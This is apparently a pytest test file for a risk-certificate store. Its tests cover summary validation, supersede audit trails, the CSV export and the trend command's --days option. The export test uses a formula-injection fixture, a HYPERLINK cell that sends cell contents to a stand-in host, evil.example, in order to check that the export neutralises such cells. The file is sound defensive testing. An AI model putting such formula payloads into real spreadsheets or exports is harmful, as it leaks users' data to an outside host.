"""Issue 14, items 4 to 6 and the trend option: summaries derived from the rows, the supersede
trail, the CSV export and `certrisk trend --days` out of range."""

from __future__ import annotations

import csv
import json
from dataclasses import replace

import pytest
import sqlalchemy as sa
from records import make_record
from typer.testing import CliRunner

from certrisk.cli import app
from certrisk.schemas.errors import InputError

TABLES = ("pipeline_run", "sample_risk", "certificate", "audit_log", "model", "policy")


def _counts(store) -> dict:
    with store.engine.connect() as conn:
        return {t: conn.execute(sa.text(f"SELECT COUNT(*) FROM {t}")).scalar_one() for t in TABLES}


def _summary(record, **changes):
    return replace(record, summary={**record.summary, **changes})


@pytest.mark.parametrize(
    "changes, message",
    [
        ({"mean_risk": 0.0}, r"summary: mean_risk=0\.0 but the rows give 0\.\d+"),
        ({"mean_risk": 5.0}, r"summary: mean_risk=5\.0 is out of range \[0, 1\]"),
        ({"abstention_rate": -1}, r"summary: abstention_rate=-1 is out of range \[0, 1\]"),
        ({"abstention_rate": 0.5}, r"summary: abstention_rate=0\.5 but the rows give 0\.\d+"),
        ({"tier_counts": {"low": 40}}, r"summary: tier_counts\['low'\]=40 but the rows give \d+"),
        ({"tier_counts": {"severe": 1}}, r"summary: tier_counts names \['severe'\]"),
        ({"n_samples": 41}, r"summary: n_samples=41 but the rows give 40"),
        ({"risk_quantiles": {"0.5": 0.0}}, r"summary: risk_quantiles\['0\.5'\]=0\.0 but the rows give"),
        ({"risk_quantiles": {"p150": 0.1}}, r"risk_quantiles key 'p150' names no quantile"),
        ({"n_drift_tests": 7}, r"summary: n_drift_tests=7 but the rows give 2"),
        ({"drift": True}, r"summary: drift=True but the rows give False"),
        ({"rule_pass_rate": 0.5}, r"summary: rule_pass_rate=0\.5 but the rows give 1\.0"),
        ({"tier": "severe"}, r"summary: unknown tier 'severe'"),
    ],
    ids=[
        "mean-disagrees", "mean-out-of-range", "abstention-negative", "abstention-disagrees", "tier-counts",
        "tier-counts-unknown", "n-samples", "quantile", "quantile-name", "drift-count", "drift-flag",
        "rule-pass-rate", "tier",
    ],
)  # fmt: skip
def test_contradictory_summary_is_refused_naming_the_key(store, record, changes, message):
    with pytest.raises(InputError, match=message):
        store.write_run(_summary(record, **changes))
    assert set(_counts(store).values()) == {0}


def test_risk_outside_zero_one_is_refused(store, record):
    samples = record.sample_risk.copy()
    samples.loc[3, "risk"] = 1.5
    with pytest.raises(InputError, match=r"risk 1\.5 at row 3 \(sample_id 'run-1:3'\) is outside \[0, 1\]"):
        store.write_run(replace(record, sample_risk=samples))
    assert set(_counts(store).values()) == {0}


def test_figures_left_out_are_derived_from_the_rows(store, record):
    bare = {
        k: v for k, v in record.summary.items() if k not in ("mean_risk", "abstention_rate", "tier_counts")
    }
    bare.pop("risk_quantiles")
    store.write_run(replace(record, summary=bare))
    got = store.get_run(record.dag_id, record.run_id)["summary"]
    risk = record.sample_risk["risk"]
    assert got["mean_risk"] == float(risk.to_numpy().mean())
    assert got["abstention_rate"] == float(record.sample_risk["abstained"].mean())
    assert got["tier_counts"] == record.summary["tier_counts"]
    assert (
        set(got["risk_quantiles"]) == {"p50", "p90", "p99", "max"}
        and got["risk_quantiles"]["max"] == risk.max()
    )


def test_supersede_needs_a_reason_and_leaves_a_visible_trail(store, record):
    """On SQLite nothing enforces who may supersede (no roles, see certrisk.governance.roles); the
    reason is still required and the trail still shows in every listing."""
    store.write_run(record)
    changed = make_record("run-1", 40, seed=7)
    with pytest.raises(InputError, match="superseding a recorded run needs a reason"):
        store.write_run(changed, supersede=True)
    with pytest.raises(InputError, match="a reason is only recorded with supersede=True"):
        store.write_run(make_record("run-2", 10), reason="why not")
    assert _counts(store)["pipeline_run"] == 1
    store.write_run(changed, supersede=True, reason="re-scored with the corrected reference")
    runs = store.list_runs()
    row = runs.iloc[0]
    assert (row["revision"], row["previous_tier"], row["revision_reason"]) == (
        2, record.summary["tier"], "re-scored with the corrected reference",
    )  # fmt: skip
    assert row["recorded_by"] and row["revised"].startswith(
        f"revised: revision 2 replaces tier {record.summary['tier']}"
    )
    first = store.list_runs(include_superseded=True).set_index("revision")
    assert first.loc[1, "revised"] == "" and first.loc[1, "recorded_by"] == row["recorded_by"]
    out = CliRunner().invoke(app, ["runs", "--db", store.url, "--format", "json"])
    assert out.exit_code == 0 and json.loads(out.stdout)[0]["revised"] == row["revised"]
    assert store.verify().ok


def test_export_neutralises_formula_cells(store, record, tmp_path):
    samples = record.sample_risk.copy()
    samples.loc[0, "sample_id"] = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    samples.loc[1, "sample_id"] = "@SUM(1+1)"
    store.write_run(replace(record, sample_risk=samples, certificates=None, rule_samples=None))
    target = tmp_path / "export.csv"
    out = CliRunner().invoke(app, ["export", str(target), "--db", store.url])
    assert out.exit_code == 0, out.output
    with target.open() as fh:
        ids = [r["sample_id"] for r in csv.DictReader(fh)]
    assert ids[0] == "'" + samples.loc[0, "sample_id"] and ids[1] == "'@SUM(1+1)"
    assert not [i for i in ids if i[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("days", ["-100000000", "100000000", "-1"])
def test_trend_days_out_of_range_is_a_clear_error(store, days):
    out = CliRunner().invoke(app, ["trend", "--db", store.url, "--days", days])
    assert out.exit_code == 2
    assert "days must be a whole number from 0 to 36500" in out.output and "Traceback" not in out.output
